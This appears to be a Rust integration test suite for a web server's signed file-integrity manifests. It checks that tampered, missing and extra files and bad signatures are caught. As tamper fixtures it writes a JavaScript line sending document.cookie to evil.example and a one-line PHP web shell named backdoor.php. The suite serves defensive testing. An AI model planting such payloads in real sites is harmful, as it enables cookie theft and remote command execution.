//! `rampart manifest build|sign|verify` with real keys: Ed25519 made by `openssl`, RSA made
//! and used by Python's `cryptography` (PSS and PKCS#1 v1.5), and every way a tree or a
//! signature can be wrong.

use std::path::Path;
use std::process::{Command, Output};
use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

use rampart_server::{Edge, Running};
use rampart_test_support::{client, TempDir};

use crate::harness::{
    admin_get, bin, edge_at, finding_ids, id_set, json_report, metric, python, start_edge,
    wait_audited,
};

fn rampart(dir: &Path, args: &[&str]) -> Output {
    bin().args(args).current_dir(dir).output().unwrap()
}

fn ok(out: &Output) -> String {
    assert!(
        out.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn sh(dir: &Path, program: &str, args: &[&str]) {
    let out = Command::new(program)
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{program} {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A release tree: files in folders, a link, a source map left out.
fn release(dir: &Path) {
    let s = dir.join("static");
    std::fs::create_dir_all(s.join("assets/img")).unwrap();
    std::fs::write(s.join("index.html"), "<!doctype html><title>app</title>").unwrap();
    std::fs::write(s.join("assets/app.3f2a.js"), "console.log('app')").unwrap();
    std::fs::write(s.join("assets/app.3f2a.js.map"), "{}").unwrap();
    std::fs::write(s.join("assets/img/logo.svg"), "<svg/>").unwrap();
    std::os::unix::fs::symlink("index.html", s.join("home.html")).unwrap();
}

fn verify(dir: &Path, extra: &[&str]) -> (i32, serde_json::Value) {
    let mut args = vec!["manifest", "verify", "integrity.json", "--format", "json"];
    args.extend_from_slice(extra);
    json_report(&rampart(dir, &args))
}

#[test]
fn a_signed_manifest_catches_changed_missing_and_extra_files() {
    let tmp = TempDir::new("integrity");
    let dir = tmp.path();
    release(dir);
    sh(
        dir,
        "openssl",
        &["genpkey", "-algorithm", "ed25519", "-out", "ed.pem"],
    );
    sh(
        dir,
        "openssl",
        &["pkey", "-in", "ed.pem", "-pubout", "-out", "ed.pub"],
    );
    let out = ok(&rampart(
        dir,
        &[
            "manifest",
            "build",
            "static",
            "-o",
            "integrity.json",
            "--exclude",
            "**/*.map",
            "--release",
            "2.4.1",
        ],
    ));
    assert!(out.contains("4 files"), "{out}");
    let m: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.join("integrity.json")).unwrap()).unwrap();
    assert_eq!(m["format"], "rampart-integrity/1");
    assert_eq!(m["version"], "2.4.1");
    assert_eq!(m["files"][1]["path"], "assets/img/logo.svg", "{m:#}");
    assert_eq!(m["files"][2]["symlink"], "index.html", "{m:#}");
    // Signed with openssl's Ed25519 key, checked with its public key.
    let out = ok(&rampart(
        dir,
        &["manifest", "sign", "integrity.json", "--key", "ed.pem"],
    ));
    assert!(out.contains("signed with ed25519"), "{out}");
    let (code, v) = verify(dir, &["--public-key", "ed.pub"]);
    assert_eq!(code, 0, "{v:#}");
    assert_eq!(v["status"], "passed");
    assert_eq!(v["signed_with"], "ed25519");
    assert_eq!(v["files"], 4);

    // openssl's own raw Ed25519 signature, at guide 000's path, verifies too.
    sh(
        dir,
        "openssl",
        &[
            "pkeyutl",
            "-sign",
            "-inkey",
            "ed.pem",
            "-rawin",
            "-in",
            "integrity.json",
            "-out",
            "integrity.sig",
        ],
    );
    let (code, v) = verify(
        dir,
        &["--public-key", "ed.pub", "--signature", "integrity.sig"],
    );
    assert_eq!(code, 0, "{v:#}");

    // Tampered, missing, extra: each named, exit 1.
    let s = dir.join("static");
    std::fs::write(
        s.join("assets/app.3f2a.js"),
        "fetch('https://evil.example')",
    )
    .unwrap();
    std::fs::remove_file(s.join("assets/img/logo.svg")).unwrap();
    std::fs::write(s.join("assets/backdoor.js"), "x").unwrap();
    std::fs::write(s.join("assets/new.js.map"), "excluded, so not extra").unwrap();
    let (code, v) = verify(dir, &["--public-key", "ed.pub"]);
    assert_eq!(code, 1, "{v:#}");
    assert_eq!(
        finding_ids(&v, |_| true),
        id_set(&[
            ("IM-FILE-01", "error"),
            ("IM-FILE-02", "error"),
            ("IM-FILE-03", "error")
        ])
    );
    let subjects: Vec<String> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            format!(
                "{} {}",
                f["id"].as_str().unwrap(),
                f["subject"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(
        subjects,
        [
            "IM-FILE-01 static/assets/app.3f2a.js",
            "IM-FILE-03 static/assets/backdoor.js",
            "IM-FILE-02 static/assets/img/logo.svg",
        ]
    );
    // The text and JUnit forms say the same.
    let text = String::from_utf8_lossy(
        &rampart(
            dir,
            &[
                "manifest",
                "verify",
                "integrity.json",
                "--public-key",
                "ed.pub",
            ],
        )
        .stdout,
    )
    .into_owned();
    assert!(
        text.contains("1 changed, 1 missing, 1 extra; signature ed25519 ok"),
        "{text}"
    );
    let junit = rampart(
        dir,
        &[
            "manifest",
            "verify",
            "integrity.json",
            "--public-key",
            "ed.pub",
            "--format",
            "junit",
        ],
    );
    assert_eq!(junit.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&junit.stdout).contains("failures=\"3\""));
    // Another root where the release was copied to: clean.
    std::fs::create_dir_all(dir.join("elsewhere")).unwrap();
    sh(dir, "cp", &["-a", "static", "elsewhere/"]);
    std::fs::write(
        dir.join("elsewhere/static/assets/app.3f2a.js"),
        "console.log('app')",
    )
    .unwrap();
    std::fs::write(dir.join("elsewhere/static/assets/img/logo.svg"), "<svg/>").unwrap();
    std::fs::remove_file(dir.join("elsewhere/static/assets/backdoor.js")).unwrap();
    let (code, v) = verify(
        dir,
        &["--public-key", "ed.pub", "--root", "elsewhere/static"],
    );
    assert_eq!(code, 0, "{v:#}");

    // A signature that is not the vendor's, a manifest edited after signing, no key.
    sh(
        dir,
        "openssl",
        &["genpkey", "-algorithm", "ed25519", "-out", "other.pem"],
    );
    sh(
        dir,
        "openssl",
        &["pkey", "-in", "other.pem", "-pubout", "-out", "other.pub"],
    );
    let root = ["--root", "elsewhere/static"];
    let (code, v) = verify(dir, &[&["--public-key", "other.pub"][..], &root].concat());
    assert_eq!(code, 1);
    assert_eq!(finding_ids(&v, |_| true), id_set(&[("IM-SIG-01", "error")]));
    let edited = std::fs::read_to_string(dir.join("integrity.json"))
        .unwrap()
        .replace("2.4.1", "2.4.2");
    std::fs::write(dir.join("integrity.json"), edited).unwrap();
    let (code, v) = verify(dir, &[&["--public-key", "ed.pub"][..], &root].concat());
    assert_eq!(code, 1);
    assert!(
        v["findings"][0]["why"]
            .as_str()
            .unwrap()
            .contains("does not verify"),
        "{v:#}"
    );
    let (code, v) = verify(dir, &root);
    assert_eq!(code, 1);
    assert!(
        v["findings"][0]["why"]
            .as_str()
            .unwrap()
            .contains("no public key"),
        "{v:#}"
    );
    let (code, v) = verify(dir, &[&["--unsigned"][..], &root].concat());
    assert_eq!(code, 0, "{v:#}");

    // Bad inputs: clear errors, non-zero.
    for (args, want) in [
        (
            &["manifest", "verify", "nope.json", "--public-key", "ed.pub"][..],
            "cannot read nope.json",
        ),
        (
            &["manifest", "verify", "ed.pem", "--public-key", "ed.pub"][..],
            "not an integrity manifest",
        ),
        (
            &["manifest", "sign", "integrity.json", "--key", "ed.pub"][..],
            "not a PEM private key",
        ),
        (
            &[
                "manifest",
                "sign",
                "integrity.json",
                "--key",
                "ed.pem",
                "--alg",
                "rs256",
            ][..],
            "cannot sign rs256",
        ),
        (
            &["manifest", "build", "static/no-such"][..],
            "static/no-such: No such file",
        ),
    ] {
        let out = rampart(dir, args);
        assert!(!out.status.success(), "{args:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains(want), "{args:?}: {err}");
    }
}

/// RSA keys and signatures from Python's `cryptography`: rampart verifies what Python
/// signed (PSS and PKCS#1 v1.5), and Python verifies what rampart signed.
#[test]
fn rsa_signatures_interoperate_with_python_cryptography() {
    let tmp = TempDir::new("integrity-rsa");
    let dir = tmp.path();
    release(dir);
    ok(&rampart(
        dir,
        &["manifest", "build", "static", "-o", "integrity.json"],
    ));
    let script = r#"
import base64, sys
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
key = rsa.generate_private_key(public_exponent=65537, key_size=3072)
open("rsa.pem", "wb").write(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
open("rsa.pub", "wb").write(key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
data = open("integrity.json", "rb").read()
pss = padding.PSS(mgf=padding.MGF1(hashes.SHA256()), salt_length=padding.PSS.DIGEST_LENGTH)
open("py-pss.sig", "wb").write(base64.b64encode(key.sign(data, pss, hashes.SHA256())))
open("py-rs256.sig", "wb").write(key.sign(data, padding.PKCS1v15(), hashes.SHA256()))
"#;
    sh(dir, &python(), &["-c", script]);
    for sig in ["py-pss.sig", "py-rs256.sig"] {
        let (code, v) = verify(dir, &["--public-key", "rsa.pub", "--signature", sig]);
        assert_eq!(code, 0, "{sig}: {v:#}");
        assert_eq!(
            v["signed_with"],
            if sig == "py-pss.sig" {
                "rsa-pss"
            } else {
                "rs256"
            }
        );
    }
    for alg in ["rsa-pss", "rs256"] {
        ok(&rampart(
            dir,
            &[
                "manifest",
                "sign",
                "integrity.json",
                "--key",
                "rsa.pem",
                "--alg",
                alg,
                "--signature",
                "ours.sig",
            ],
        ));
        let check = format!(
            r#"
import base64
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
pub = serialization.load_pem_public_key(open("rsa.pub", "rb").read())
sig = base64.b64decode(open("ours.sig", "rb").read())
pad = padding.PSS(mgf=padding.MGF1(hashes.SHA256()), salt_length=padding.PSS.DIGEST_LENGTH) if "{alg}" == "rsa-pss" else padding.PKCS1v15()
pub.verify(sig, open("integrity.json", "rb").read(), pad, hashes.SHA256())
"#
        );
        sh(dir, &python(), &["-c", &check]);
    }
}

// === [integrity] in `serve` ===

/// A release (static files and rampart's own config) with a manifest signed by an
/// openssl Ed25519 key; returns the config text.
fn signed_site(dir: &Path, integrity: &str) -> String {
    release(dir);
    sh(
        dir,
        "openssl",
        &["genpkey", "-algorithm", "ed25519", "-out", "ed.pem"],
    );
    sh(
        dir,
        "openssl",
        &["pkey", "-in", "ed.pem", "-pubout", "-out", "ed.pub"],
    );
    let toml = format!(
        "[server]\nhttp = \"127.0.0.1:0\"\nenvironment = \"production\"\n\
         [admin]\nlisten = \"127.0.0.1:0\"\n\
         [logging]\naccess = \"off\"\naudit = \"audit.log\"\n\
         [integrity]\nmanifest = \"integrity.json\"\n{integrity}\n\
         [[routes]]\npath = \"/\"\nstatic = \"static\"\n"
    );
    std::fs::write(dir.join("rampart.toml"), &toml).unwrap();
    ok(&rampart(
        dir,
        &[
            "manifest",
            "build",
            "static",
            "rampart.toml",
            "-o",
            "integrity.json",
            "--exclude",
            "**/*.map",
        ],
    ));
    ok(&rampart(
        dir,
        &["manifest", "sign", "integrity.json", "--key", "ed.pem"],
    ));
    toml
}

/// Loads `toml` from `dir`; `tick` replaces the re-verification interval (the config's
/// floor is 10s, too slow for a test).
fn edge_of(dir: &Path, toml: &str, tick: Option<Duration>) -> Result<Edge, String> {
    edge_at(dir, toml, |c| {
        if let (Some(i), Some(t)) = (c.integrity.as_mut(), tick) {
            i.interval = Some(t);
        }
    })
}

async fn start(dir: &Path, toml: &str, tick: Option<Duration>) -> Result<Running, String> {
    start_edge(edge_of(dir, toml, tick)).await
}

async fn integrity_health(r: &Running, want: &str) -> serde_json::Value {
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        let h = admin_get(r, "/health").await.json();
        if h["integrity"]["status"] == want {
            return h;
        }
        assert!(Instant::now() < deadline, "integrity never {want}: {h:#}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Production, `on_mismatch = "refuse"`: a clean tree starts and reports itself; a file
/// changed while serving is found by the periodic check (audited, `/health` degraded,
/// the metric 0) while requests are still answered; a reload and a fresh start on the
/// changed tree are refused naming the file; restoring it clears everything.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn integrity_is_checked_at_start_on_reload_and_while_serving() {
    let tmp = TempDir::new("integrity-serve");
    let dir = tmp.path();
    let toml = signed_site(dir, "public_key_file = \"ed.pub\"");
    let tick = Some(Duration::from_millis(200));
    let running = start(dir, &toml, tick).await.unwrap();
    let http = running.http_addr.unwrap();

    let h = integrity_health(&running, "ok").await;
    let i = &h["integrity"];
    assert_eq!(h["status"], "healthy", "{h:#}");
    assert_eq!(i["files"], 5, "{h:#}");
    assert_eq!(i["signed_with"], "ed25519", "{h:#}");
    assert_eq!(i["problems"], serde_json::json!([]), "{h:#}");
    let m = admin_get(&running, "/metrics").await.text();
    assert_eq!(metric(&m, "rampart_integrity_ok"), Some(1.0), "{m}");
    assert_eq!(metric(&m, "rampart_integrity_problems"), Some(0.0), "{m}");
    assert!(metric(&m, "rampart_integrity_last_check_timestamp_seconds").unwrap() > 1.7e9);
    assert_eq!(
        client::plain(http, client::get("x", "/index.html"))
            .await
            .status,
        200
    );

    // Changed on disk while serving: found by the next periodic check.
    let app = dir.join("static/assets/app.3f2a.js");
    let original = std::fs::read(&app).unwrap();
    std::fs::write(&app, "fetch('https://evil.example/?c='+document.cookie)").unwrap();
    let h = integrity_health(&running, "mismatch").await;
    assert_eq!(h["status"], "degraded", "{h:#}");
    let problems = h["integrity"]["problems"].to_string();
    assert!(
        problems.contains("changed: ") && problems.contains("static/assets/app.3f2a.js"),
        "{h:#}"
    );
    wait_audited(dir, "integrity.mismatch", 1).await;
    let m = admin_get(&running, "/metrics").await.text();
    assert_eq!(metric(&m, "rampart_integrity_ok"), Some(0.0), "{m}");
    assert_eq!(metric(&m, "rampart_integrity_problems"), Some(1.0), "{m}");
    assert_eq!(
        client::plain(http, client::get("x", "/index.html"))
            .await
            .status,
        200,
        "a running edge keeps serving; the operator is told"
    );

    // A reload on the changed tree is refused and the old config stays.
    let err = running
        .live
        .reload(edge_of(dir, &toml, tick).unwrap())
        .await
        .unwrap_err();
    assert!(err.contains("app.3f2a.js"), "{err}");
    assert_eq!(
        running.live.process.reloads.failed.load(Ordering::Relaxed),
        1
    );
    // So is a fresh production start, before any port is bound, naming the file.
    let err = start(dir, &toml, tick).await.err().unwrap();
    assert!(
        err.contains("integrity: 1 problem") && err.contains("static/assets/app.3f2a.js"),
        "{err}"
    );

    // Restored: clean again, audited, and a reload goes through.
    std::fs::write(&app, &original).unwrap();
    integrity_health(&running, "ok").await;
    wait_audited(dir, "integrity.restored", 1).await;
    running
        .live
        .reload(edge_of(dir, &toml, tick).unwrap())
        .await
        .unwrap();
    // rampart's own config is covered too: an edited config is caught.
    std::fs::write(
        dir.join("rampart.toml"),
        toml.replace("audit.log", "elsewhere.log"),
    )
    .unwrap();
    let err = start(dir, &toml, tick).await.err().unwrap();
    assert!(err.contains("rampart.toml"), "{err}");
    running.shutdown();
}

/// `on_mismatch = "serve"` starts degraded; a development start is never refused; a
/// manifest signed by another key, an unreadable or forged manifest refuse a production
/// start; `require_signed = false` checks the files only; bad settings are config errors.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mismatches_signatures_and_settings_are_judged_before_serving() {
    let tmp = TempDir::new("integrity-serve2");
    let dir = tmp.path();
    let toml = signed_site(dir, "public_key_file = \"ed.pub\"\non_mismatch = \"serve\"");
    std::fs::write(dir.join("static/backdoor.php"), "<?php system($_GET['c']);").unwrap();

    let running = start(dir, &toml, None).await.unwrap();
    let h = integrity_health(&running, "mismatch").await;
    assert_eq!(h["status"], "degraded", "{h:#}");
    assert!(
        h["integrity"]["problems"].to_string().contains("extra: ")
            && h["integrity"]["problems"]
                .to_string()
                .contains("backdoor.php"),
        "{h:#}"
    );
    wait_audited(dir, "integrity.mismatch", 1).await;
    running.shutdown();

    // The same tree with "refuse": production refuses, development serves degraded.
    let refuse = toml.replace("on_mismatch = \"serve\"", "on_mismatch = \"refuse\"");
    let err = start(dir, &refuse, None).await.err().unwrap();
    assert!(err.contains("backdoor.php"), "{err}");
    let dev = refuse.replace(
        "environment = \"production\"",
        "environment = \"development\"",
    );
    let running = start(dir, &dev, None).await.unwrap();
    integrity_health(&running, "mismatch").await;
    running.shutdown();
    std::fs::remove_file(dir.join("static/backdoor.php")).unwrap();

    // Another vendor's key: the list proves nothing, so nothing starts.
    sh(
        dir,
        "openssl",
        &["genpkey", "-algorithm", "ed25519", "-out", "other.pem"],
    );
    sh(
        dir,
        "openssl",
        &["pkey", "-in", "other.pem", "-pubout", "-out", "other.pub"],
    );
    let other = refuse.replace("ed.pub", "other.pub");
    let err = start(dir, &other, None).await.err().unwrap();
    assert!(err.contains("signature"), "{err}");
    // A manifest edited after signing (a file added to the list) fails its signature.
    let manifest = std::fs::read_to_string(dir.join("integrity.json")).unwrap();
    std::fs::write(
        dir.join("integrity.json"),
        manifest.replace("\"created_at\": \"", "\"created_at\": \"1"),
    )
    .unwrap();
    let forged = refuse.clone();
    let err = start(dir, &forged, None).await.err().unwrap();
    assert!(err.contains("signature"), "{err}");
    std::fs::write(dir.join("integrity.json"), "not json").unwrap();
    let err = start(dir, &forged, None).await.err().unwrap();
    assert!(err.contains("manifest"), "{err}");
    std::fs::remove_file(dir.join("integrity.json")).unwrap();
    let err = start(dir, &forged, None).await.err().unwrap();
    assert!(err.contains("cannot read"), "{err}");

    // Unsigned, on purpose: files only.
    let unsigned = refuse.replace("public_key_file = \"ed.pub\"", "require_signed = false");
    std::fs::write(dir.join("rampart.toml"), &unsigned).unwrap();
    ok(&rampart(
        dir,
        &[
            "manifest",
            "build",
            "static",
            "rampart.toml",
            "-o",
            "integrity.json",
            "--exclude",
            "**/*.map",
        ],
    ));
    let running = start(dir, &unsigned, None).await.unwrap();
    let h = integrity_health(&running, "ok").await;
    assert_eq!(
        h["integrity"]["signed_with"],
        serde_json::Value::Null,
        "{h:#}"
    );
    running.shutdown();

    // Settings that cannot work are config errors, each naming its key.
    for (bad, key) in [
        ("", "integrity.public_key"),
        ("public_key = \"ssh-ed25519 AAAA\"", "integrity.public_key"),
        (
            "require_signed = false\non_mismatch = \"ignore\"",
            "integrity.on_mismatch",
        ),
        (
            "require_signed = false\ninterval = \"5s\"",
            "integrity.interval",
        ),
        (
            "require_signed = false\nread_rate = \"1KiB\"",
            "integrity.read_rate",
        ),
        ("require_signed = false\nmanifests = \"x\"", "manifests"),
    ] {
        let t = refuse.replace(
            "public_key_file = \"ed.pub\"\non_mismatch = \"refuse\"",
            bad,
        );
        let err = edge_of(dir, &t, None).err().unwrap_or_default();
        assert!(err.contains(key), "{bad:?}: {err}");
    }
}
